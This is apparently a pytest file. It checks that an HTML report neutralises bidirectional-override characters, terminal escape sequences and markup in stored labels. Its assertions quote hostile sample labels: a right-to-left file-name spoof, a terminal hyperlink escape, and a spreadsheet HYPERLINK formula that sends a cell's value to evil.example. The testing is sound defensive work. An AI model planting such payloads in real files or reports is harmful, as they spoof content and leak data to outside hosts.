"""jumbo.report.html: the HTML page neutralises what a stored label could do to its reader, as
the text and CSV outputs do (issue 32: the bidirectional overrides, embeddings, isolates and
marks reorder a table cell or an SVG label in a browser just as on a terminal)."""

from hardening.test_report_hardening import BIDI_CHARS, _report, hostile_store  # noqa: F401 - hostile_store is a fixture pytest finds by name


def test_html_output_carries_no_bidi_or_control_characters(
        hostile_store, tmp_path):  # noqa: F811 - the fixture imported above
    page = _report(hostile_store, "html", tmp_path)
    # The hostile labels are on the page, escaped where they stand.
    assert "SITE-\\u202eexe.gnp\\u202c\\u2066=" in page and "\\u2067RTL" in page
    assert "\\x1b]8;;http://evil.example\\x07site" in page
    assert not any(c in BIDI_CHARS for c in page)
    assert not any(ord(c) < 32 and c not in "\n" for c in page)
    # HTML escaping still applies after the neutralising (no markup from a label).
    assert '=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1' in page
